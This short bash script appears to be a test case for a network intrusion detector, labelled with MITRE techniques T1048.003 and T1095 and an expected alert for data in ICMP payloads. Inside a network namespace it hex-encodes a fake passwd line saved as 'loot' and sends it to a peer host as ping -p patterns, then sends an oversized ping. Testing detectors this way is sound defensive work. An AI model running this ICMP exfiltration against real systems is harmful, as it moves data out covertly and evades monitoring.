#!/bin/bash
# desc: data smuggled in ICMP echo requests to another host: a file's bytes as ping -p patterns, oversized packets
# mitre: T1048.003, T1095
# expect: data_in_icmp_payload
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
printf 'root:x:0:0:root:/root:/bin/bash\n' >loot
for chunk in $(xxd -p -c 16 loot); do
	ping -c 1 -W 1 -p "$chunk" "$PEER" >/dev/null || true
done
ping -c 1 -W 1 -s 4000 "$PEER" >/dev/null || true
